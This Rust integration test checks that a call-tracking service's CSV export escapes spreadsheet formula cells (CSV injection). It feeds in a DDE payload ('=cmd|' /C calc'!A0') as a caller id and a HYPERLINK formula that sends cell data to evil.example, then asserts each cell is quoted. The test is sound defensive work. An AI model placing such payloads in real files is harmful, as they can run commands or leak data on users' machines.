//! The calls CSV export neutralises formula cells (OWASP "CSV Injection"):
//! a spoofed caller id from the PBX and a crafted campaign and term from a
//! visitor's landing URL come out as text a spreadsheet does not evaluate,
//! on both backends (the CSV is written from what each store reads back).

use crate::common::*;
use crate::pbx_support::{GENERIC_KEY, GENERIC_SECRET, generic_headers};
use serde_json::json;

const TOKEN: &str = "admin-token-for-tests-0123";

crate::on_both_backends! {
    formula_cells_in_the_calls_csv_are_written_as_text => formula_cells_in_the_calls_csv_are_written_as_text_on;
}

fn formula_cells_in_the_calls_csv_are_written_as_text_on(backend: Backend) {
    let server = format!("admin_token = \"{TOKEN}\"");
    let site = format!("pbx_secrets.generic = \"{GENERIC_SECRET}\"");
    let test = "formula_cells_in_the_calls_csv_are_written_as_text";
    let Some(h) = start_on(backend, test, &server, &site, "") else { return };
    let mut touch = paid();
    touch["campaign"] = json!("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
    touch["term"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
    touch["content"] = json!("\t=1+1");
    let visit = h.visit(None, touch);
    let number = visit["number"].as_str().unwrap().to_owned();

    // A real signed delivery from the generic PBX, whose caller id is a formula.
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
    // A whole second after the lease began (the adapter's times are read to the ms).
    let ring = rfc3339(now.as_secs() + 1);
    let body = json!({
        "call_id": "-1+1",
        "from": "=cmd|' /C calc'!A0",
        "to": number,
        "started_at": ring,
        "status": "in-progress",
        "phase": "start"
    })
    .to_string();
    let mut req = h.client.post(h.url("/v1/sites/shop/pbx/generic")).header("content-type", "application/json");
    for (k, v) in generic_headers("msg_csv_1", now.as_secs() as i64, &body, GENERIC_KEY) {
        req = req.header(k, v);
    }
    let resp = req.body(body).send().unwrap();
    assert_eq!(resp.status(), 200, "{}", resp.text().unwrap());

    let resp = h.client.get(h.url("/v1/calls.csv?site=shop")).bearer_auth(TOKEN).send().unwrap();
    assert_eq!(resp.status(), 200);
    let text = resp.text().unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_owned();
    assert_eq!(cell("caller"), "'=cmd|' /C calc'!A0");
    assert_eq!(cell("campaign"), "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
    assert_eq!(cell("term"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("pbx_call_id"), "'-1+1");
    // Every cell is either a plain number or does not start a formula.
    for row in &rows {
        for value in row {
            let plain_number = value.trim_start_matches(['+', '-']).bytes().all(|b| b.is_ascii_digit() || b == b'.');
            assert!(plain_number || !value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?} in {text}");
        }
    }
    // Phone numbers are numbers: the dialled pool number keeps its '+'.
    assert_eq!(cell("dialled"), number);
    // The JSON API is not a spreadsheet: it gives the values as stored.
    let list: serde_json::Value =
        h.client.get(h.url("/v1/calls?site=shop")).bearer_auth(TOKEN).send().unwrap().json().unwrap();
    assert_eq!(list["calls"][0]["caller"], "=cmd|' /C calc'!A0");
}

/// `secs` since the epoch as RFC 3339 UTC (the generic adapter's time format).
fn rfc3339(secs: u64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp(secs as i64).unwrap();
    t.format(&time::format_description::well_known::Rfc3339).unwrap()
}
